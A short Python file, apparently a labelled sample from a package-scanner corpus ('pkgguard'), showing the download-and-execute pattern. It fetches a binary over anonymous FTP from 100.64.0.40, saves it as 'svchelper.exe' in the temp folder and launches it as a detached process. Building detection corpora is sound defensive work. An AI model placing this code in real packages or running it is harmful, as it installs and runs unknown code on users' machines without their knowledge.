# pkgguard corpus 325 (download-execute), modelled on [empirical]; inert, never run.
import ftplib
import os
import subprocess
import tempfile

path = os.path.join(tempfile.gettempdir(), "svchelper.exe")
with ftplib.FTP("100.64.0.40") as ftp:
    ftp.login()
    with open(path, "wb") as f:
        ftp.retrbinary("RETR helper.bin", f.write)
subprocess.Popen([path], creationflags=0x00000008, close_fds=True)
